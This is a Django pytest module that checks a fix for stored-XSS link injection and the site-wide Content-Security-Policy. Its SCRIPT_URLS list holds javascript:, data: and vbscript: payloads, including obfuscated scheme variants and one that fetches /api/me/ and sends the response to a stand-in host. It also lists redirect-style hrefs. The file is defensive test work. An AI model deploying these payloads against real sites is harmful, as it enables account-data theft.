"""Issue 9, finding 1: a stored URL never becomes a script link, and every response carries a
Content-Security-Policy that keeps the next such bug inert.

Before the fix a manifest row's `javascript:fetch('/api/me/')` was stored as the image's original
URL and the image page linked it (`<a href="javascript:…">`); the licence API took `ftp:` URLs; no
response had a CSP. The browser half (every page under the policy, a stored `javascript:` URL that
runs nothing) is tests/browser/test_csp_browser.py.
"""
from __future__ import annotations

import json
import os
import subprocess
import sys
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from django.core.files.base import ContentFile
from django.utils import translation

from datasets import services
from datasets.models import Image, Licence
from tests.conftest import make_photo

ROOT = Path(__file__).resolve().parent.parent

SCRIPT_URLS = [
    "javascript:fetch('/api/me/').then(r => r.text()).then(t => new Image().src = '//x/?' + t)",
    "JavaScript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://example.com/%0Aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]


class _Links(HTMLParser):
    def __init__(self):
        super().__init__()
        self.hrefs: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag == "a":
            self.hrefs.extend(unescape(v or "") for k, v in attrs if k == "href")


def links(html: str) -> list[str]:
    parser = _Links()
    parser.feed(html)
    return parser.hrefs


def browser_scheme(href: str) -> str:
    """The scheme a browser would follow: it drops tabs and newlines anywhere, and spaces and
    control characters around the URL; '' for a relative reference."""
    cleaned = "".join(c for c in href if c not in "\t\n\r").strip("".join(map(chr, range(0x21))))
    scheme, sep, _ = cleaned.partition(":")
    return scheme.lower() if sep and "/" not in scheme and "?" not in scheme and "#" not in scheme else ""


def assert_only_web_links(html: str):
    bad = [h for h in links(html) if browser_scheme(h) not in ("", "http", "https")]
    assert bad == []


# ---------------------------------------------------------------- intake


@pytest.mark.django_db
def test_manifest_row_with_a_script_url_keeps_the_photo_and_drops_the_link(source, tmp_path):
    for n in range(len(SCRIPT_URLS) + 1):
        (tmp_path / f"p{n}.jpg").write_bytes(make_photo(160, 120, seed=2000 + n))
    rows = [*SCRIPT_URLS, "https://www.flickr.com/photos/someone/123"]
    text = "".join(json.dumps({"path": f"p{n}.jpg", "original_url": url}) + "\n" for n, url in enumerate(rows))
    with translation.override("en"):
        job = services.create_import(source=source, manifest=ContentFile(text.encode(), name="m.jsonl"),
                                     enqueue=False, manifest_base=str(tmp_path))
        job = services.run_import(job.pk)
    items = list(job.items.order_by("position").select_related("image"))
    assert [i.outcome for i in items] == ["accepted"] * len(rows)
    for item in items[:-1]:
        assert item.image.original_url == ""
        assert "original_url must be an http(s) URL; got " in item.reason
    assert "javascript:fetch" in items[0].reason  # the planner sees what was dropped
    assert items[-1].image.original_url == rows[-1] and items[-1].reason == ""
    assert job.warnings == len(SCRIPT_URLS)
    assert not Image.objects.exclude(original_url="").exclude(original_url__startswith="https://").exists()


@pytest.mark.django_db
def test_ingest_one_drops_a_script_url_and_adds_it_to_the_quota_warning(source):
    from datasets.models import Subcategory

    Subcategory.objects.filter(slug="korean").update(quota=1)
    services.ingest_one(make_photo(seed=2100), source=source, category="food", subcategory="korean")
    with translation.override("en"):
        result = services.ingest_one(make_photo(seed=2101), source=source, category="food", subcategory="korean",
                                     original_url="javascript:alert(1)")
    assert result.outcome == "accepted" and result.image.original_url == ""
    assert "is full" in result.reason and "original_url must be an http(s) URL" in result.reason


@pytest.mark.django_db
@pytest.mark.parametrize("url", ["ftp://example.com/licence", "javascript:alert(1)", "javascript://x.org/%0aalert(1)",
                                 "data:text/html,hi", "//example.com/licence", "https:example.com"])
def test_licence_api_refuses_other_schemes_with_a_400(api, url):
    client = api("planner")
    body = {"code": "bad-1.0", "name": "Bad", "url": url, "commercial_use": True, "attribution_required": False}
    response = client.post("/api/licences/", body, format="json")
    assert response.status_code == 400 and "url" in response.json(), response.content
    assert not Licence.objects.filter(code="bad-1.0").exists()
    response = client.patch("/api/licences/cc-by-4.0/", {"url": url}, format="json")
    assert response.status_code == 400 and "url" in response.json()
    assert Licence.objects.get(code="cc-by-4.0").url.startswith("https://")


@pytest.mark.django_db
def test_licence_api_still_takes_http_and_https(api):
    client = api("planner")
    for n, url in enumerate(["https://creativecommons.org/licenses/by/9.0/", "http://example.com/licence", ""]):
        body = {"code": f"ok-{n}", "name": f"OK {n}", "url": url, "commercial_use": True, "attribution_required": False}
        response = client.post("/api/licences/", body, format="json")
        assert response.status_code == 201, response.content
        assert Licence.objects.get(code=f"ok-{n}").url == url


# ---------------------------------------------------------------- pages, whatever the database holds


@pytest.mark.django_db
@pytest.mark.parametrize("url", SCRIPT_URLS)
def test_pages_never_link_a_stored_script_url(client, users, source, url):
    image = services.ingest_one(make_photo(seed=2200), source=source).image
    # As a row stored before the check would be (or by a path that skipped it).
    Image.objects.filter(pk=image.pk).update(original_url=url)
    Licence.objects.filter(pk=image.licence_id).update(url=url)
    client.force_login(users["admin"])
    for page in (f"/datasets/images/{image.pk}/", "/datasets/sources/"):
        response = client.get(page)
        assert response.status_code == 200
        assert_only_web_links(response.content.decode())


@pytest.mark.django_db
def test_pages_still_link_http_urls(client, users, source):
    image = services.ingest_one(make_photo(seed=2300), source=source,
                                original_url="https://www.flickr.com/photos/someone/123").image
    client.force_login(users["planner"])
    hrefs = links(client.get(f"/datasets/images/{image.pk}/").content.decode())
    assert "https://www.flickr.com/photos/someone/123" in hrefs
    assert image.licence.url in hrefs
    assert image.licence.url in links(client.get("/datasets/sources/").content.decode())


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_migration_blanks_stored_links_of_other_schemes():
    import hashlib

    from django.db import connection
    from django.db.migrations.executor import MigrationExecutor

    executor = MigrationExecutor(connection)
    before = [("datasets", "0002_seed_categories_and_licences")]
    executor.migrate(before)
    apps = executor.loader.project_state(before).apps
    OldLicence, OldSource, OldImage = (apps.get_model("datasets", m) for m in ("Licence", "Source", "Image"))
    OldLicence.objects.create(code="old-ftp", name="Old", url="ftp://example.com/l", commercial_use=True,
                              attribution_required=False)
    licence = OldLicence.objects.get(code="cc-by-4.0")
    source = OldSource.objects.create(kind="upload", name="old", default_licence=licence)
    urls = ["javascript:fetch('/api/me/')", "https://example.com/kept", "", " JAVASCRIPT:alert(1)"]
    for i, url in enumerate(urls):
        digest = hashlib.sha256(str(i).encode()).hexdigest()
        OldImage.objects.create(
            file=f"i{i}.jpg", thumbnail=f"t{i}.jpg", sha256=digest, pixel_sha256=digest, phash=i, width=9,
            height=9, original_width=9, original_height=9, original_format="JPEG", original_bytes=1,
            source=source, licence=licence, original_url=url, external_id=str(i))

    executor.loader.build_graph()
    executor.migrate(executor.loader.graph.leaf_nodes())

    assert dict(Image.objects.values_list("external_id", "original_url")) == {
        "0": "", "1": "https://example.com/kept", "2": "", "3": ""}
    assert Licence.objects.get(code="old-ftp").url == ""
    assert Licence.objects.get(code="cc-by-4.0").url == "https://creativecommons.org/licenses/by/4.0/"


# ---------------------------------------------------------------- the shared check and the filter


@pytest.mark.parametrize("url", SCRIPT_URLS + [
    "", "ftp://example.com/x", "//example.com/x", "https:example.com", "http://", "https:///path", "http://[::1",
    "https://example.com/a b", "https://example.com/\x85", "mailto:someone@example.com", "/relative/path",
])
def test_the_shared_check_refuses_everything_but_absolute_http_urls(url):
    from django.core.exceptions import ValidationError

    from datasets.weblinks import is_web_link, link_problem, validate_web_link

    assert not is_web_link(url)
    with translation.override("en"):
        assert link_problem(url, "original_url").startswith("original_url must be an http(s) URL; got ")
    if url:
        with pytest.raises(ValidationError):
            validate_web_link(url)


@pytest.mark.parametrize("url", ["http://example.com", "https://example.com/a?b=c#d", "HTTPS://EXAMPLE.COM/x",
                                 "https://user@example.com:8443/p", "https://[2001:db8::1]/x", "https://사진.kr/a"])
def test_the_shared_check_accepts_http_and_https(url):
    from datasets.weblinks import is_web_link, link_problem

    assert is_web_link(url) and link_problem(url) == ""


@pytest.mark.parametrize("value,expected", [
    ("https://example.com/x", "https://example.com/x"),
    ("/media/images/ab/cd.jpg", "/media/images/ab/cd.jpg"),
    ("javascript:alert(1)", ""),
    ("//evil.example/x", ""),
    ("/\\evil.example/x", ""),
    ("/\tjavascript:alert(1)", ""),
    (None, ""),
])
def test_safe_href_filter(value, expected):
    from django.template import Context, Template

    rendered = Template("{% load safe_urls %}{{ value|safe_href }}").render(Context({"value": value}))
    assert unescape(rendered) == expected


# ---------------------------------------------------------------- the Content-Security-Policy

DIRECTIVES = {
    "default-src": "'self'", "script-src": "'self'", "style-src": "'self'", "object-src": "'none'",
    "base-uri": "'self'", "form-action": "'self'", "frame-ancestors": "'none'", "img-src": "'self' data:",
}


def parse_policy(header: str) -> dict[str, str]:
    return {d.split()[0]: " ".join(d.split()[1:]) for d in header.split(";") if d.strip()}


@pytest.mark.django_db
@pytest.mark.parametrize("role,url", [
    (None, "/accounts/login/"), ("planner", "/datasets/quotas/"), ("labeler", "/label/"),
    ("engineer", "/api/images/"), (None, "/api/me/"), ("planner", "/datasets/no-such-page/"),
])
def test_every_response_carries_the_policy(client, users, role, url):
    if role:
        client.force_login(users[role])
    policy = parse_policy(client.get(url).headers.get("Content-Security-Policy", ""))
    for directive, value in DIRECTIVES.items():
        assert policy.get(directive) == value, (directive, policy)
    assert "unsafe-eval" not in str(policy) and "'unsafe-inline'" not in policy["script-src"]


@pytest.mark.django_db
def test_no_page_template_has_inline_script_or_handlers():
    """The policy blocks them, so one would be a broken page: keep the templates free of them."""
    import re

    found = []
    for path in (ROOT / "templates").rglob("*.html"):
        text = path.read_text()
        for pattern in (r"<script(?![^>]*\bsrc=)[^>]*>", r"\son[a-z]+\s*=\s*[\"']", r"javascript:"):
            found += [f"{path.relative_to(ROOT)}: {m.group(0)}" for m in re.finditer(pattern, text, re.I)]
    assert found == []


PROBE = """
import json, django
django.setup()
from django.conf import settings
from django.core.files.storage import default_storage
print(json.dumps({"url": default_storage.url("images/ab/cd.jpg"),
                  "policy": settings.CONTENT_SECURITY_POLICY["DIRECTIVES"]["img-src"]}))
"""


@pytest.mark.parametrize("env", [
    {"S3_BUCKET": "photos", "AWS_S3_ENDPOINT_URL": "http://127.0.0.1:9000"},
    {"S3_BUCKET": "photos", "AWS_S3_REGION_NAME": "ap-northeast-2"},
    {"S3_BUCKET": "photos.example.com", "AWS_S3_REGION_NAME": "ap-northeast-2"},
    {"S3_BUCKET": "photos", "S3_SIGNED_URLS": "false", "AWS_S3_ENDPOINT_URL": "https://minio.example.com"},
], ids=["endpoint", "aws", "aws-dotted-bucket", "unsigned"])
def test_photos_on_s3_are_allowed_by_img_src(tmp_path, env):
    """Signed URLs point at the bucket's host: the policy's img-src names exactly that origin."""
    cleared = ("PLATFORM_ENV", "DJANGO_", "DATABASE_URL", "CELERY_", "S3_", "AWS_", "INGEST_", "MEDIA_ROOT")
    base = {k: v for k, v in os.environ.items() if not k.startswith(cleared)}
    base.update(DJANGO_SETTINGS_MODULE="config.settings", PLATFORM_VAR_DIR=str(tmp_path / "var"),
                AWS_ACCESS_KEY_ID="AKIATEST", AWS_SECRET_ACCESS_KEY="secret", **env)
    proc = subprocess.run([sys.executable, "-c", PROBE], cwd=ROOT, env=base, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    out = json.loads(proc.stdout)
    parts = urlsplit(out["url"])
    assert f"{parts.scheme}://{parts.netloc}" in out["policy"], out


@pytest.mark.django_db
def test_media_on_local_disk_adds_no_origin(settings):
    assert settings.CONTENT_SECURITY_POLICY["DIRECTIVES"]["img-src"] == ["'self'", "data:"]
